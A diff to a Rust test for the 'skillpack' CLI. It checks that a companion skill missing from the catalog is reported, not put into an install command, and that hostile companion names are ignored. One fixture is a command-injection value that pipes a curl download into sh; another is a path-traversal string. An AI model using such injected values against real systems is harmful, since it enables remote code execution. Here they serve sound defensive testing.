@@ -269,8 +269,16 @@ fn companion_names_that_are_not_skill_names_are_ignored_and_commands_are_quoted(
     install.assert_clean("install");
     assert_eq!(install.code, Some(0), "{}", install.stderr);
     let quoted_root = format!("'{}'", root.display());
-    let expected = format!("skillpack install crm-management ok-one --dir {quoted_root}");
+    // `ok-one` is nowhere skillpack can install it from: reported, never in a command.
+    let expected = format!("skillpack install crm-management --dir {quoted_root}");
     assert!(install.stderr.contains(&expected), "{}", install.stderr);
+    assert!(
+        install
+            .stderr
+            .contains("companion `ok-one` was not found in the catalog"),
+        "{}",
+        install.stderr
+    );
     for shown in [
         "ignoring the companion `x;curl${IFS}e.sh|sh;#` declared by host-skill",
         "ignoring the companion `../../..` declared by host-skill",
@@ -300,12 +308,11 @@ fn companion_names_that_are_not_skill_names_are_ignored_and_commands_are_quoted(
         .collect();
     assert_eq!(names, ["crm-management", "ok-one"], "{}", listed.stdout);
     assert!(
-        listed
-            .stdout
-            .contains(&format!("`skillpack install ok-one --dir {quoted_root}`")),
+        listed.stdout.contains("not found in the catalog"),
         "{}",
         listed.stdout
     );
+    assert!(!listed.all().contains("install ok-one"), "{}", listed.all());
     assert!(listed.stderr.contains(&expected), "{}", listed.stderr);
     assert!(!listed.all().contains("install ../"), "{}", listed.all());
 
